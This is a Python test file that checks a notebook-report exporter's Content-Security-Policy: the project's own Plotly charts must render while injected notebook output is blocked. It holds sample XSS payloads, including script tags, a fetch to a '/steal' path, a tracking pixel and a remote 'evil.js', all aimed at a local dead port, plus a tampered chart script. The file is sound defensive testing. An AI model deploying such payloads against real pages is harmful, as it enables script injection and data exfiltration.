"""A report page's Content-Security-Policy: our charts draw, a notebook output's script does not."""

from __future__ import annotations

from pathlib import Path

import nbformat
import plotly.graph_objects as go
import pytest
from browser import open_page

from claimscope.build import html
from claimscope.build.csp import allowed_script_hashes
from claimscope.build.exporter import ClaimscopeExporter, page_resources
from claimscope.present.display import figure_bundle

HOSTILE = (
    "<script>window.hostileRan = true; document.title = 'owned';"
    " fetch('http://127.0.0.1:9/steal');</script>"
    '<img src="http://127.0.0.1:9/pixel.png" alt="">'
    '<script src="http://127.0.0.1:9/evil.js"></script>'
)


def _notebook(extra_html: str) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("chart")
    bundle = figure_bundle(go.Figure(go.Bar(x=["a", "b"], y=[1, 2])), "demo")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data=bundle),
        nbformat.v4.new_output("display_data", data={"text/html": extra_html}),
    ]
    nb.cells.append(cell)
    return nb


def _page(tmp_path: Path, site: bool, extra_html: str = HOSTILE) -> Path:
    plotly_src = html.site_plotly_src() if site else ""
    if site:
        html.write_site_assets(tmp_path)
    resources = page_resources("Demo", "", {}, [], plotly_src=plotly_src)
    body, _ = ClaimscopeExporter().from_notebook_node(
        _notebook(extra_html), resources={"claimscope": resources}
    )
    page = tmp_path / "demo.html"
    page.write_text(body, encoding="utf-8")
    return page


@pytest.mark.parametrize("site", [False, True])
def test_our_chart_draws_and_a_hostile_output_neither_runs_nor_fetches(chromium, tmp_path, site):
    page_path = _page(tmp_path, site)
    assert 'http-equiv="Content-Security-Policy"' in page_path.read_text(encoding="utf-8")
    with open_page(chromium, page_path) as (page, visit):
        ran = page.evaluate("() => window.hostileRan === true")
        title = page.title()
    assert len(visit.charts) == 1 and visit.charts[0]["svg"] >= 1, visit.charts
    assert not ran and title == "Demo"
    assert visit.blocked == []  # the policy refuses before any request leaves the page
    assert visit.page_errors == []


def test_a_script_shaped_like_a_chart_but_doing_more_gets_no_hash():
    good = figure_bundle(go.Figure(go.Bar(x=[1], y=[2])), "x")["text/html"]
    tampered = good.replace("function draw() {", "function draw() { fetch('//x');", 1)
    start = "<html><head><meta charset='utf-8'></head><body>"
    assert len(allowed_script_hashes(start + good)) == 1
    assert allowed_script_hashes(start + tampered) == []
    assert allowed_script_hashes(start + "<script>alert(1)</script>") == []
